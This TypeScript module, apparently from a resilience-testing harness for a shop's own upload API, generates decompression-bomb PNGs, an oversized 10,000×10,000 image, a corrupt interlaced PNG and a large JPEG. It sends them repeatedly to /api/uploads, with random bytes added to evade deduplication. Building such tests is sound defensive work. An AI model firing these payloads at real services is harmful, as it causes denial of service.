import { randomBytes } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';
import { uploadLimits } from '@shop/contracts/limits';
import sharp from 'sharp';
import type { Target } from './attack.ts';
import { again, attacker } from './attack.ts';

function chunk(name: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(name, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');

function header(width: number, height: number, interlaced = false): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data.set([8, 2, 0, 0, interlaced ? 1 : 0], 8);
  return chunk('IHDR', data);
}

function compressedTexts(): Buffer {
  const text = deflateSync(Buffer.alloc(30_000_000, 'a'), { level: 9 });
  const texts = Array.from({ length: 15 }, (_, n) => chunk('zTXt', Buffer.concat([Buffer.from(`Key${n}\0\0`, 'latin1'), text])));
  const pixels = chunk('IDAT', deflateSync(Buffer.alloc(4)));
  return Buffer.concat([signature, header(1, 1), ...texts, pixels, chunk('IEND', Buffer.alloc(0))]);
}

function manyPixels(): Buffer {
  const row = 1 + 3 * 10_000;
  const pixels = chunk('IDAT', deflateSync(Buffer.alloc(row * 10_000), { level: 9 }));
  return Buffer.concat([signature, header(10_000, 10_000), pixels, chunk('IEND', Buffer.alloc(0))]);
}

const brokenInterlaced = (): Buffer =>
  Buffer.concat([signature, header(3000, 3000, true), chunk('IDAT', randomBytes(100_000)), chunk('IEND', Buffer.alloc(0))]);

async function largePhoto(): Promise<Buffer> {
  const [width, height] = [5200, 3400];
  const pixels = randomBytes(width * height * 3);
  const photo = await sharp(pixels, { raw: { width, height, channels: 3 } })
    .jpeg({ quality: 88 })
    .toBuffer();
  if (photo.length > uploadLimits.bytes) throw new Error(`the photo has ${photo.length} bytes, more than may be uploaded`);
  return photo;
}

function form(picture: Buffer, more: Buffer): { sent: Buffer; headers: Record<string, string> } {
  const head = '--boundary\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n';
  const sent = Buffer.concat([Buffer.from(head), picture, more, Buffer.from('\r\n--boundary--\r\n')]);
  return { sent, headers: { 'content-type': 'multipart/form-data; boundary=boundary' } };
}

/** Random trailing bytes prevent deduplication. */
export async function uploads(target: Target): Promise<void> {
  const pictures = [await largePhoto(), compressedTexts(), manyPixels(), compressedTexts(), brokenInterlaced()];
  await again(target, 4, attacker(target, 4), (n) => ({
    method: 'POST',
    path: '/api/uploads',
    ...form(pictures[n % pictures.length] as Buffer, randomBytes(16)),
  }));
}
